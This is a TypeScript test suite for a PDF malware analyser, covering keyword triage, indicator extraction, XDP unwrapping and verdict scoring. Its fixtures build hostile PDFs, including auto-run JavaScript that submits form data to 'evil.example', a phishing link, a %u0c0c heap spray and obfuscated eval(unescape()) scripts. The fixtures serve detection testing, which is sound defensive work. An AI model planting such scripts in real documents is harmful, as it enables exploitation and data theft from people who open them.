// analyzeFast end to end on PDFs written by the fixture builder: the result contract (the seed's
// fields, validated by the zod schema), keyword triage on parsed names, indicators with their source,
// XDP unwrapping, and robustness on garbage. Scoring is unit-tested on synthetic findings.
import { createHash } from "node:crypto";
import { describe, expect, it } from "vitest";
import { DEFAULT_LIMITS } from "../limits";
import { readPdf } from "../pdf/document";
import { PdfBuilder, appendUpdate, bytes, concat, hexString, wrapInXdp } from "../pdf/testing/pdf-builder";
import { analyzeFast } from "./analyze";
import { collectFacts } from "./facts/document-facts";
import { FastResult, type Finding, type Severity } from "./report";
import { RULES } from "./rules/registry";
import { CONTEXT_CAP, MALICIOUS_THRESHOLD, SUSPICIOUS_THRESHOLD, scoreFindings } from "./score";

const JS_URL = "http://evil.example/collect";
const LINK_URL = "https://phish.example.net/login";

/** /OpenAction -> JavaScript that submits to JS_URL, and a link annotation to LINK_URL. */
function suspiciousPdf() {
  const b = new PdfBuilder();
  const action = b.add(`<< /Type /Action /S /JavaScript /JS (var u = "${JS_URL}"; this.submitForm({cURL: u});) >>`);
  const link = b.add(`<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] /A << /S /URI /URI (${LINK_URL}) >> >>`);
  b.addCatalog(`/OpenAction ${action} 0 R`, 1, `/Annots [${link} 0 R]`);
  return { file: b.build(), action, link };
}

function plainPdf() {
  const b = new PdfBuilder();
  const font = b.add("<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>");
  const content = b.addFlateStream("", "BT /F1 24 Tf 72 700 Td (Quarterly report) Tj ET");
  b.addCatalog("", 1, `/Resources << /Font << /F1 ${font} 0 R >> >> /Contents ${content} 0 R`);
  b.info = b.add("<< /Title (Quarterly report) /Producer (pdfscan tests) >>");
  return b.build();
}

const analyze = (file: Uint8Array, fileName = "sample.pdf") => analyzeFast(file, { fileName });

describe("analyzeFast: the result contract", () => {
  it("validates with the FastResult schema", () => {
    expect(() => FastResult.parse(analyze(suspiciousPdf().file))).not.toThrow();
    expect(() => FastResult.parse(analyze(plainPdf()))).not.toThrow();
  });

  it("carries the seed's fields with their exact names and shapes", () => {
    const { file } = suspiciousPdf();
    const r = analyze(file, "invoice 2024.pdf");
    expect(r.file_name).toBe("invoice 2024.pdf");
    expect(r.sha256).toBe(createHash("sha256").update(file).digest("hex"));
    expect(Array.isArray(r.keyword_hits)).toBe(true);
    for (const k of r.keyword_hits) expect(typeof k).toBe("string");
    expect(r.iocs).toEqual(
      expect.objectContaining({ urls: expect.any(Array), ips: expect.any(Array), emails: expect.any(Array) }),
    );
    // the seed's three fields, plus the additive explanation of the verdict model and the evidence
    // floor its auto-run obfuscated script sets (lib/analyzer/techniques)
    expect(Object.keys(r.summary).sort()).toEqual(["confidence", "evidenceFloor", "model", "score", "verdict"]);
    expect(["malicious", "suspicious", "benign", "unknown"]).toContain(r.summary.verdict);
    expect(Number.isInteger(r.summary.score)).toBe(true);
    expect(["low", "medium", "high"]).toContain(r.summary.confidence);
  });

  it("lists keyword hits sorted, matching the counted keywords", () => {
    const r = analyze(suspiciousPdf().file);
    expect(r.keyword_hits).toEqual(Object.keys(r.keyword_counts).sort());
    expect(r.keyword_hits).toEqual(expect.arrayContaining(["/JS", "/JavaScript", "/OpenAction", "/URI"]));
  });

  it("sorts findings by weight, heaviest first", () => {
    const weights = analyze(suspiciousPdf().file).findings.map((f) => f.weight);
    expect(weights).toEqual([...weights].sort((a, b) => b - a));
  });

  it("describes the structure of the file", () => {
    const b = new PdfBuilder();
    b.add("<< /Member 1 >>", { inObjStm: true });
    b.addCatalog("", 3);
    const r = analyze(appendUpdate(b.build(), [{ num: b.root, body: "<< /Type /Catalog /Pages 3 0 R >>" }]));
    expect(r.structure).toMatchObject({
      pdf_version: "1.7",
      header_offset: 0,
      object_streams: 1,
      revisions: 2,
      eof_markers: 2,
      xref_rebuilt: false,
      encrypted: false,
      pages: 3,
    });
  });
});

describe("analyzeFast: budget hits and engine notes", () => {
  it("names only limits of the limits table in budget_hits", () => {
    const tiny = analyzeFast(suspiciousPdf().file, { fileName: "x.pdf", limits: { MAX_OBJECTS: 2 } });
    expect(tiny.budget_hits).toContain("MAX_OBJECTS");
    for (const b of tiny.budget_hits) expect(Object.keys(DEFAULT_LIMITS)).toContain(b);
    // an engine failure is not a budget: the schema refuses it there
    expect(FastResult.safeParse({ ...tiny, budget_hits: ["YARA_FAILED"] }).success).toBe(false);
  });

  it("turns a rule that throws into an engine note, not an anomaly or a budget hit, and keeps the other findings", () => {
    const rule = RULES.find((r) => r.id === "javascript-present")!;
    const check = rule.check;
    (rule as { check: typeof check }).check = () => {
      throw new Error("boom");
    };
    try {
      const r = analyze(suspiciousPdf().file);
      expect(r.engine_notes).toEqual([{ engine: "analyzer", message: "rule javascript-present failed: Error: boom" }]);
      expect(r.budget_hits).toEqual([]);
      expect(r.anomalies.map((a) => a.code)).not.toContain("budget-exceeded");
      expect(r.findings.length).toBeGreaterThan(0);
      expect(r.findings.map((f) => f.ruleId)).not.toContain("javascript-present");
    } finally {
      (rule as { check: typeof check }).check = check;
    }
  });
});

describe("analyzeFast: keyword triage on parsed names", () => {
  it("counts /J#61vaScript as /JavaScript, which a raw-byte count misses, and fires name-obfuscation", () => {
    const b = new PdfBuilder();
    b.addCatalog("/OpenAction << /S /J#61vaScript /JS (app.alert(1);) >>");
    const r = analyze(b.build());
    expect(r.keyword_counts["/JavaScript"]).toBe(1);
    expect(r.keyword_hits).toContain("/JavaScript");
    const finding = r.findings.find((f) => f.ruleId === "name-obfuscation");
    expect(finding?.evidence[0].excerpt).toBe("/J#61vaScript = /JavaScript");
    expect(r.findings.map((f) => f.ruleId)).toContain("javascript-auto-run");
  });

  it("counts keywords inside an object stream, where the raw bytes are compressed", () => {
    const b = new PdfBuilder();
    const js = b.add("<< /S /JavaScript /JS (app.alert(1);) >>", { inObjStm: true });
    b.addCatalog(`/OpenAction ${js} 0 R`);
    const file = b.build();
    const facts = collectFacts(readPdf(file, DEFAULT_LIMITS), DEFAULT_LIMITS);
    expect(facts.keywords.counts).toMatchObject({ "/JS": 1, "/JavaScript": 1, "/OpenAction": 1, "/ObjStm": 1 });
    expect(facts.keywords.rawCounts["/JS"]).toBeUndefined();
    expect(facts.keywords.rawCounts["/JavaScript"]).toBeUndefined();
    expect(facts.keywords.onlyInObjectStreams.sort()).toEqual(["/JS", "/JavaScript"]);
    const r = analyze(file);
    expect(r.keyword_hits).toEqual(expect.arrayContaining(["/JS", "/JavaScript"]));
    expect(r.findings.map((f) => f.ruleId)).toContain("javascript-auto-run");
  });

  it("does not count a font subset name like /AAAAAA+ArialMT as /AA", () => {
    const b = new PdfBuilder();
    const font = b.add("<< /Type /Font /Subtype /TrueType /BaseFont /AAAAAA+ArialMT >>");
    b.addCatalog("", 1, `/Resources << /Font << /F1 ${font} 0 R >> >>`);
    expect(analyze(b.build()).keyword_counts["/AA"]).toBeUndefined();
  });

  it("counts a real /AA next to a subset font name once", () => {
    const b = new PdfBuilder();
    const font = b.add("<< /Type /Font /Subtype /TrueType /BaseFont /AAAAAA+ArialMT >>");
    b.addCatalog("", 1, `/Resources << /Font << /F1 ${font} 0 R >> >> /AA << /O << /S /JavaScript /JS (1;) >> >>`);
    expect(analyze(b.build()).keyword_counts["/AA"]).toBe(1);
  });

  it("counts /Colors above 2^24 under its own keyword", () => {
    const b = new PdfBuilder();
    b.addStream("/DecodeParms << /Colors 16777217 >>", "x");
    b.addStream("/DecodeParms << /Colors 3 >>", "y");
    b.addCatalog();
    expect(analyze(b.build()).keyword_counts["/Colors > 2^24"]).toBe(1);
  });

  it("counts /Encrypt of a classic trailer", () => {
    const b = new PdfBuilder();
    b.addCatalog();
    const enc = b.add(`<< /Filter /Standard /V 1 /R 2 /P -44 /O <${"11".repeat(32)}> /U <${"22".repeat(32)}> >>`);
    const r = analyze(b.build({ trailerExtra: `/Encrypt ${enc} 0 R /ID [<00> <00>]` }));
    expect(r.structure.encrypted).toBe(true);
    expect(r.keyword_hits).toContain("/Encrypt");
  });
});

describe("analyzeFast: indicators", () => {
  it("extracts the URL of a URI action with the annotation's reference as source", () => {
    const { file, link } = suspiciousPdf();
    const r = analyze(file);
    expect(r.iocs.urls).toContain(LINK_URL);
    expect(r.iocs.domains).toContain("phish.example.net");
    const item = r.iocs.items.find((i) => i.type === "url" && i.value === LINK_URL);
    expect(item?.sources).toContainEqual({ objectRef: `${link} 0 R`, source: "uri-action" });
    expect(item?.defanged).toBe("hxxps[://]phish[.]example[.]net/login");
  });

  it("extracts a URL from a JavaScript string with the script's reference as source", () => {
    const { file, action } = suspiciousPdf();
    const item = analyze(file).iocs.items.find((i) => i.type === "url" && i.value === JS_URL);
    expect(item?.sources).toContainEqual({ objectRef: `${action} 0 R`, source: "javascript" });
  });

  it("extracts indicators from a hex-encoded script and from a compressed content stream", () => {
    const b = new PdfBuilder();
    const content = b.addFlateStream("", "BT (write to ops@example.org or visit 198.51.100.7) Tj ET");
    b.addCatalog(
      `/OpenAction << /S /JavaScript /JS ${hexString('app.launchURL("https://cdn.example.org/payload");')} >>`,
      1,
      `/Contents ${content} 0 R`,
    );
    const r = analyze(b.build());
    expect(r.iocs.urls).toContain("https://cdn.example.org/payload");
    expect(r.iocs.emails).toContain("ops@example.org");
    expect(r.iocs.ips).toContain("198.51.100.7");
  });

  it("finds no indicators in a plain document", () => {
    const r = analyze(plainPdf());
    expect(r.iocs).toMatchObject({ urls: [], ips: [], emails: [] });
  });
});

describe("analyzeFast: verdicts end to end", () => {
  it("calls a plain document benign with high confidence", () => {
    expect(analyze(plainPdf()).summary).toMatchObject({ verdict: "benign", confidence: "high" });
  });

  it("calls an /OpenAction heap spray malicious", () => {
    const b = new PdfBuilder();
    b.addCatalog(
      `/OpenAction << /S /JavaScript /JS ${hexString(`var s = unescape("${"%u0c0c".repeat(40)}"); while (s.length < 0x100000) s += s;`)} >>`,
    );
    const r = analyze(b.build());
    expect(r.summary.verdict).toBe("malicious");
    expect(r.summary.score).toBeGreaterThanOrEqual(MALICIOUS_THRESHOLD);
    expect(r.summary.confidence).toBe("high");
  });

  it("gives verdict unknown for empty input", () => {
    const r = analyze(new Uint8Array(0), "empty.pdf");
    expect(r.summary).toMatchObject({ verdict: "unknown", confidence: "low" });
    expect(r.structure.objects).toBe(0);
    expect(() => FastResult.parse(r)).not.toThrow();
  });

  it("judges a document written whole into its trailer (no numbered object): its catalog was read", () => {
    // corkami's JavaScript samples: `obj<<>>`, then the catalog and its OpenAction inline in the trailer
    const trailerOnly = bytes(
      '%PDF-1.\nobj<<>>\ntrailer\n<</Root <</Pages <<>> /OpenAction <</S/JavaScript /JS(e = ("a")[("b", "eval")]; e(unescape("%61%70%70%2E%61%6C%65%72%74%28%31%29"));)>> >> >>',
    );
    const r = analyze(trailerOnly, "js-arraytrick.pdf");
    expect(r.structure.objects).toBe(0);
    expect(r.findings.map((f) => f.ruleId)).toContain("javascript-auto-run");
    expect(["suspicious", "malicious"]).toContain(r.summary.verdict);
  });

  it("gives verdict unknown for bytes that are not a PDF", () => {
    expect(analyze(bytes("Just a text file, nothing to see.\n"), "notes.txt").summary.verdict).toBe("unknown");
  });

  it("refuses input over MAX_INPUT_BYTES with a budget hit and verdict unknown", () => {
    const r = analyzeFast(plainPdf(), { fileName: "big.pdf", limits: { MAX_INPUT_BYTES: 100 } });
    expect(r.summary.verdict).toBe("unknown");
    expect(r.truncated).toBe(true);
    expect(r.budget_hits).toEqual(["MAX_INPUT_BYTES"]);
    expect(() => FastResult.parse(r)).not.toThrow();
  });

  it("marks the result truncated when a budget is hit while reading", () => {
    const b = new PdfBuilder();
    for (let i = 0; i < 30; i++) b.add(`<< /N ${i} >>`);
    b.addCatalog();
    const r = analyzeFast(b.build(), { fileName: "many.pdf", limits: { MAX_OBJECTS: 10 } });
    expect(r.truncated).toBe(true);
    expect(r.budget_hits).toContain("MAX_OBJECTS");
  });
});

describe("analyzeFast: XDP packages", () => {
  it("unwraps the PDF inside an XDP package, analyses it and reports the wrapper", () => {
    const { file } = suspiciousPdf();
    const xdp = wrapInXdp(file);
    const r = analyze(xdp, "form.xdp");
    expect(() => FastResult.parse(r)).not.toThrow();
    expect(r.sha256).toBe(createHash("sha256").update(xdp).digest("hex"));
    const ids = r.findings.map((f) => f.ruleId);
    expect(ids).toEqual(expect.arrayContaining(["xdp-wrapper", "javascript-auto-run"]));
    expect(r.iocs.urls).toEqual(expect.arrayContaining([JS_URL, LINK_URL]));
    expect(r.structure.pdf_version).toBe("1.7");
    const inner = analyze(file);
    expect(r.summary.score).toBeGreaterThanOrEqual(inner.summary.score);
  });

  it("accepts a package whose base64 is split across several chunks", () => {
    const b64 = Buffer.from(plainPdf()).toString("base64");
    const half = Math.floor(b64.length / 8) * 4;
    const xdp = bytes(
      `<?xml version="1.0"?><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><pdf xmlns="http://ns.adobe.com/xdp/pdf/"><document><chunk>${b64.slice(0, half)}</chunk><chunk>${b64.slice(half)}</chunk></document></pdf></xdp:xdp>`,
    );
    const r = analyze(xdp);
    expect(r.findings.map((f) => f.ruleId)).toEqual(["xdp-wrapper"]);
    expect(r.structure.pages).toBe(1);
  });

  it("reads the XFA template of the package itself: its scripts are checked like the PDF's", () => {
    const b64 = Buffer.from(plainPdf()).toString("base64");
    const xdp = bytes(
      `<?xml version="1.0"?><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/2.8/"><subform name="f">` +
        `<event activity="initialize"><script contentType="application/x-javascript">var s = unescape("%u0c0c%u0c0c"); eval(unescape("%61%70%70"));</script></event>` +
        `</subform></template><pdf xmlns="http://ns.adobe.com/xdp/pdf/"><document><chunk>${b64}</chunk></document></pdf></xdp:xdp>`,
    );
    const r = analyze(xdp, "form.xdp");
    const obfuscation = r.findings.find((f) => f.ruleId === "javascript-obfuscation");
    expect(obfuscation?.evidence[0].path).toBe("/XDP");
    expect(r.findings.map((f) => f.ruleId)).toEqual(
      expect.arrayContaining(["xdp-wrapper", "javascript-auto-run", "xfa-form"]),
    );
  });

  it("does not treat an XDP without a PDF as one", () => {
    const r = analyze(
      bytes('<?xml version="1.0"?><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>'),
    );
    expect(r.findings.map((f) => f.ruleId)).not.toContain("xdp-wrapper");
    expect(r.summary.verdict).toBe("unknown");
  });
});

describe("analyzeFast: never throws on garbage", () => {
  function prng(seed: number) {
    let s = seed >>> 0;
    return () => {
      s = (Math.imul(s, 1664525) + 1013904223) >>> 0;
      return s >>> 24;
    };
  }

  it("returns a valid result for 100 random buffers, with and without a PDF header", () => {
    const next = prng(2024);
    for (let i = 0; i < 100; i++) {
      const body = Uint8Array.from({ length: next() * 8 }, next);
      const input = i % 2 ? concat([bytes("%PDF-1.7\n"), body]) : body;
      const r = analyze(input, `random-${i}.bin`);
      expect(() => FastResult.parse(r)).not.toThrow();
    }
  });

  it("returns a valid result for every 97th truncation of real fixtures", () => {
    const b = new PdfBuilder();
    b.add("<< /S /JavaScript /JS (app.alert(1);) >>", { inObjStm: true });
    b.addCatalog("/OpenAction 1 0 R /AcroForm << /Fields [] >>");
    const fixtures = [
      suspiciousPdf().file,
      plainPdf(),
      b.build(),
      wrapInXdp(suspiciousPdf().file),
      appendUpdate(plainPdf(), [{ num: 1, body: "<< /S /URI /URI (https://example.com/) >>" }]),
    ];
    let runs = 0;
    for (const full of fixtures) {
      for (let cut = 0; cut <= full.length; cut += 97) {
        const r = analyze(full.subarray(0, cut), "truncated.pdf");
        expect(() => FastResult.parse(r)).not.toThrow();
        runs++;
      }
    }
    expect(runs).toBeGreaterThan(30);
  });
});

// ---- score.ts on synthetic findings ------------------------------------------------------------

function finding(weight: number, severity: Severity = "medium", id = `rule-${weight}-${severity}`): Finding {
  return {
    id,
    ruleId: id,
    title: id,
    description: id,
    category: "structure",
    severity,
    confidence: "medium",
    stage: "fast",
    weight,
    evidence: [],
    attack: [],
    cve: [],
    mitigationIds: [],
  };
}
const analysed = { unanalysable: false, partial: false };

describe("scoreFindings", () => {
  it("declares the contract's thresholds", () => {
    expect([MALICIOUS_THRESHOLD, SUSPICIOUS_THRESHOLD]).toEqual([70, 40]);
  });

  it.each<[string, Finding[], number, string]>([
    ["no findings", [], 0, "benign"],
    ["one weight-39 finding", [finding(39)], 39, "benign"],
    ["one weight-40 finding", [finding(40)], 40, "suspicious"],
    ["one weight-69 finding", [finding(69)], 69, "suspicious"],
    ["one weight-70 finding", [finding(70)], 70, "malicious"],
    ["one weight-100 finding", [finding(100)], 100, "malicious"],
    ["two weight-50 findings (noisy-OR: 1 - 0.5 * 0.5)", [finding(50), finding(50, "high", "b")], 75, "malicious"],
    ["two weight-30 findings (1 - 0.7 * 0.7)", [finding(30), finding(30, "medium", "b")], 51, "suspicious"],
    [
      "three weight-20 findings (1 - 0.8^3)",
      [finding(20), finding(20, "medium", "b"), finding(20, "medium", "c")],
      49,
      "suspicious",
    ],
    ["a weight above 100, clamped", [finding(250)], 100, "malicious"],
    ["a negative weight, clamped to 0", [finding(-40)], 0, "benign"],
  ])("scores %s", (_name, findings, score, verdict) => {
    expect(scoreFindings(findings, analysed)).toMatchObject({ score, verdict });
  });

  it("never reaches 100 from many medium findings", () => {
    const many = Array.from({ length: 12 }, (_, i) => finding(10, "medium", `m${i}`));
    const s = scoreFindings(many, analysed);
    expect(s.score).toBe(Math.round(100 * (1 - 0.9 ** 12)));
    expect(s.score).toBeLessThan(100);
  });

  it(`caps info/low context findings together at CONTEXT_CAP (${CONTEXT_CAP})`, () => {
    const context = Array.from({ length: 15 }, (_, i) => finding(10, i % 2 ? "low" : "info", `c${i}`));
    const s = scoreFindings(context, analysed);
    expect(s.score).toBe(CONTEXT_CAP);
    expect(s.verdict).toBe("benign");
  });

  it("adds context below the cap at its noisy-OR value", () => {
    expect(scoreFindings([finding(8, "low"), finding(10, "low", "b")], analysed).score).toBe(
      Math.round(100 * (1 - 0.92 * 0.9)),
    );
  });

  it("combines capped context with real findings as one more independent factor", () => {
    const context = Array.from({ length: 15 }, (_, i) => finding(10, "low", `c${i}`));
    const s = scoreFindings([...context, finding(30, "medium")], analysed);
    expect(s.score).toBe(Math.round(100 * (1 - 0.7 * (1 - CONTEXT_CAP / 100))));
    expect(s.verdict).toBe("suspicious");
  });

  it("does not let a feature-rich benign form become suspicious by accumulation", () => {
    const features = [
      "javascript-present",
      "embedded-file",
      "xfa-form",
      "encrypted-document",
      "many-revisions",
      "jbig2-stream",
    ].map((id) => finding(10, "low", id));
    expect(scoreFindings(features, analysed).verdict).toBe("benign");
  });

  it.each<[string, Finding[], { unanalysable: boolean; partial: boolean }, string, string]>([
    ["malicious with a critical finding", [finding(85, "critical")], analysed, "malicious", "high"],
    [
      "malicious with two high findings",
      [finding(50, "high"), finding(50, "high", "b")],
      analysed,
      "malicious",
      "high",
    ],
    ["malicious from medium findings only", [finding(50), finding(50, "medium", "b")], analysed, "malicious", "medium"],
    ["suspicious with a high finding", [finding(45, "high")], analysed, "suspicious", "medium"],
    ["suspicious from medium findings only", [finding(45)], analysed, "suspicious", "low"],
    ["benign, far from the line", [finding(5, "info")], analysed, "benign", "high"],
    ["benign, near the line", [finding(25)], analysed, "benign", "medium"],
    ["benign, but part of the file was hidden", [], { unanalysable: false, partial: true }, "benign", "low"],
    ["nothing analysable", [], { unanalysable: true, partial: true }, "unknown", "low"],
    [
      "nothing analysable, yet a heavy finding",
      [finding(80, "high")],
      { unanalysable: true, partial: true },
      "malicious",
      "medium",
    ],
  ])("rates confidence: %s", (_name, findings, ctx, verdict, confidence) => {
    expect(scoreFindings(findings, ctx)).toMatchObject({ verdict, confidence });
  });
});
